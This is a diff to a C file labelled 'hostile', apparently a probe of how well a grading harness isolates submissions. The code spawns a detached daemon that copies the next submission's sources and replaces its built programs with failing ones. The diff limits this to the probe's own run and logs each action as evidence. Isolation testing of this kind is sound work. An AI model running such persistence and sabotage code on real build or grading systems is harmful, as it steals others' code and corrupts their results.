@@ -1,9 +1,10 @@
 /* echo_server.c - hostile: leave a daemon behind (double fork, setsid, no parent-death
- * signal) that, for 40 seconds, watches for the next submissions' build folders, copies
- * their sources and replaces their freshly built programs with one that fails. */
+ * signal) that, for 40 seconds, watches for the next submission's build folder, copies its
+ * sources and replaces its freshly built programs with one that fails. */
 #include "wlh.h"
 
 #include <dirent.h>
+#include <stdbool.h>
 
 static void sabotage(const char *dir, const char *self)
 {
@@ -12,6 +13,15 @@ static void sabotage(const char *dir, const char *self)
 
 	if (strcmp(dir, self) == 0)
 		return;
+	/* Only the next submission of this run (it carries the run's marker): a machine
+	 * shared with other people's grading is not ours to sabotage. */
+	snprintf(p, sizeof p, "%s/src/echo_server.c", dir);
+	char *text = wlh_slurp(p, 1 << 20);
+	bool ours = text && strstr(text, "next: " WLH_MARK);
+	free(text);
+	if (!ours)
+		return;
+	wlh_evidence("daemon", "could copy %s", p);
 	for (int i = 0; progs[i]; i++) {
 		snprintf(p, sizeof p, "%s/%s", dir, progs[i]);
 		struct stat st;
@@ -25,9 +35,6 @@ static void sabotage(const char *dir, const char *self)
 			wlh_evidence("daemon", "replaced %s", p);
 		close(fd);
 	}
-	snprintf(p, sizeof p, "%s/src/echo_server.c", dir);
-	if (access(p, R_OK) == 0)
-		wlh_evidence("daemon", "could copy %s", p);
 }
 
 int main(void)
